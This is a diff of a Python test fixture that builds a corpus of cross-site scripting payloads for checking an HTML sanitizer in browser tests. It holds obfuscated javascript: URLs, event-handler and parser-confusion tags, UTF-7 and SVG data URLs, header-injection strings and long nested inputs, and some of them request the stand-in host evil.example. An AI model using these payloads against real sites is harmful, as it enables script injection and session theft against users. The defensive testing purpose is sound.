@@ -1,9 +1,12 @@
-"""Bodies that try to run a script in a reader's or an editor's browser.
+"""Bodies that try to run a script in a reader's or an editor's browser, or to phone home.
 
-Each calls `hit()` if it succeeds: the browser tests put one there and count.
+One that runs calls `hit()`, one that phones asks for something of evil.example: the browser tests
+lie in wait for both. Those that fit on a line of printable text stand in hostile.txt.
 """
 
-_URLS = [
+from pathlib import Path
+
+URLS = [
     "javascript:hit()",
     "JaVaScRiPt:hit()",
     "java\tscript:hit()",
@@ -27,85 +30,40 @@ _URLS = [
     "view-source:javascript:hit()",
     "blob:https://evil.example/1",
     "filesystem:https://evil.example/1",
+    "javascript://ok.example/%0ahit()",
+    "javascript:%68it()",
+    "java\u2028script:hit()",
+    "java\u200bscript:hit()",
+    "\u00a0javascript:hit()",
+    "\u202ejavascript:hit()",
+    "j&Tab;a&NewLine;v&#13;ascript:hit()",
+    "&#0000106avascript:hit()",
+    "ｊavascript:hit()",
+    "feed:javascript:hit()",
+    "jar:https://evil.example/x.jar!/x",
+    "livescript:hit()",
+    "mocha:hit()",
+    "ws://evil.example/",
+    "intent://evil.example#Intent;scheme=https;end",
+    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='hit()'/>",
+    "data:text/html;charset=utf-7,+ADw-script+AD4-hit()+ADw-/script+AD4-",
+    "http://ok.example@evil.example/",
+    "https://evil.example\\@ok.example/",
+    'https://ok.example/"onmouseover=hit()//',
+    "https:///evil.example/",
+    "https://[evil.example/",
+    'tel:hit()"onclick=hit()',
+    "mailto:a@b?body=</script><script>hit()</script>",
+    'document:108863" onclick=hit()',
+    "?q=<script>hit()</script>",
+    '#"><img src=x onerror=hit()>',
 ]
 
-_TAGS = """\
-<script>hit()</script>
-<SCRIPT SRC=//evil.example/x.js></SCRIPT>
-<script/x>hit()</script >
-<scr<script>ipt>hit()</scr</script>ipt>
-<<script>hit();//<</script>
-<img src=x onerror=hit()>
-<img/src=x/onerror=hit()>
-<img src=x:x onerror="hit()"
-<p onclick=hit() onmouseover=hit()>x</p>
-<p style="background:url(javascript:hit())">x</p>
-<p style="width:expression(hit())">x</p>
-<svg onload=hit()>
-<svg><script>hit()</script></svg>
-<svg><a xlink:href="javascript:hit()"><text>x</text></a></svg>
-<svg><animate onbegin=hit() attributeName=x dur=1s>
-<svg><foreignObject><body onload=hit()></foreignObject></svg>
-<svg></p><style><a id="</style><img src=1 onerror=hit()>">
-<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hit()&gt;">
-<math><annotation-xml encoding="text/html"><script>hit()</script></annotation-xml></math>
-<math href="javascript:hit()">x</math>
-<iframe src="javascript:hit()"></iframe>
-<iframe srcdoc="<script>parent.hit()</script>"></iframe>
-<object data="javascript:hit()"></object>
-<embed src="javascript:hit()">
-<form action="javascript:hit()"><button>x</button></form>
-<button formaction="javascript:hit()">x</button>
-<input autofocus onfocus=hit()>
-<select autofocus onfocus=hit()><option>x</select>
-<textarea autofocus onfocus=hit()>x</textarea>
-<details open ontoggle=hit()>x</details>
-<marquee onstart=hit()>x</marquee>
-<video><source onerror=hit()></video>
-<audio src=x onerror=hit()>
-<body onload=hit()>
-<base href="javascript:hit()//">
-<link rel=stylesheet href="data:text/css,*{}">
-<link rel=import href="//evil.example/">
-<meta http-equiv=refresh content="0;url=javascript:hit()">
-<style>@import "//evil.example/x.css";</style>
-<style><img src=x onerror=hit()></style>
-<template><script>hit()</script></template>
-<noscript><p title="</noscript><img src=x onerror=hit()>"></noscript>
-<title><img src=x onerror=hit()></title>
-<textarea><img src=x onerror=hit()></textarea>
-<xmp><img src=x onerror=hit()></xmp>
-<noembed><img src=x onerror=hit()></noembed>
-<plaintext><img src=x onerror=hit()>
-<![CDATA[<script>hit()</script>]]>
-<!--><img src=x onerror=hit()>-->
-<!--!><img src=x onerror=hit()>
-<!-- --!><img src=x onerror=hit()>
-<?xml-stylesheet href="javascript:hit()"?><x>
-<!ENTITY x "<script>hit()</script>">&x;
-<a href="https://ok.example/" onclick="hit()">x</a>
-<a href='https://ok.example/"onmouseover="hit()'>x</a>
-<a href="https://ok.example/" ping="//evil.example/">x</a>
-<a href="https://ok.example/`onclick=hit()">x</a>
-<td background="javascript:hit()">x</td>
-<table background="javascript:hit()"><tr><td>x</table>
-<table><td><script>hit()</script><tr><img src=x onerror=hit()></table>
-<p title="</p><img src=x onerror=hit()>">x</p>
-<p>&lt;img src=x onerror=hit()&gt;</p>
-&lt;script&gt;hit()&lt;/script&gt;
-<isindex action=javascript:hit() type=image>
-<x:script xmlns:x="http://www.w3.org/1999/xhtml">hit()</x:script>
-<p is=x-script onfocus=hit() tabindex=0 autofocus contenteditable>x</p>
-<p id=location name=cookie>x</p><form id=document><input name=cookie></form>
-<div style="position:fixed;inset:0;z-index:9999"><a href="https://evil.example/">x</a></div>
-<font color=red face="x" onerror=hit()>x</font>
-<ol start="1 onfocus=hit()"><li value="1" onfocus=hit()>x</ol>
-<th scope="row onfocus=hit()" colspan="2 onfocus=hit()">x</th>
-<h2><script>hit()</script></h2>
-"""
+_LINES = (Path(__file__).parent / "hostile.txt").read_text().splitlines()
+_IMAGE = "<img src=x onerror=hit()>"
 
-BODIES = [f'<p>text <a href="{url}">link</a></p>' for url in _URLS]
-BODIES += _TAGS.splitlines()
+BODIES = [f'<p>text <a href="{url}">link</a></p>' for url in URLS]
+BODIES += [line for line in _LINES if not line.startswith("## ")]
 BODIES += [
     "<img src=x onerror=\x00hit()>",
     "<\x00script>hit()</script>",
@@ -113,4 +71,27 @@ BODIES += [
     '<a href="java\x00script:hit()">x</a>',
     "<p \ud800 onclick=hit()>x</p>",
     "<p>\u202e<script>hit()</script></p>",
+    "<script>//-->\nhit()</script>",
+    "<img\nsrc=x\nonerror=hit()>",
+    "<img\x0csrc=x\x0conerror=hit()>",
+    "<img\x0bsrc=x onerror=hit()>",
+    "<img src=x onerror\r\n=\r\nhit()>",
+    "\r\nLocation: //evil.example/\r\n\r\n<script>hit()</script>",
+    f"\ufeff{_IMAGE}",
+    f"\u2028{_IMAGE}\u2029",
+    f"\x1b[31m{_IMAGE}\x08\x07",
+    f"\u202e\u2066{_IMAGE}\u2069",
+    f"<\u0130mg src=x onerror=hit()>{_IMAGE}",
+    f"\ud800{_IMAGE}\udfff",
+    f"\ufdd0{_IMAGE}\uffff",
+    "<ſcript>hit()</ſcript><ſvg onload=hit()>",
+    # Long ones: deep, wide, with an attribute that has no end, and with all of it at the end.
+    "<div>" * 150 + _IMAGE,
+    "<b>" * 150 + _IMAGE + "</b>" * 150,
+    "<table><tr><td>" * 80 + _IMAGE,
+    f"<p title='{'x' * 2_000}'>{_IMAGE}",
+    "x" * 2_000 + _IMAGE,
+    "<!--" * 400 + _IMAGE,
+    f"<a href='https://ok.example/{'a' * 2_000}' onfocus=hit() autofocus>x</a>",
+    "&" * 1_000 + _IMAGE,
 ]
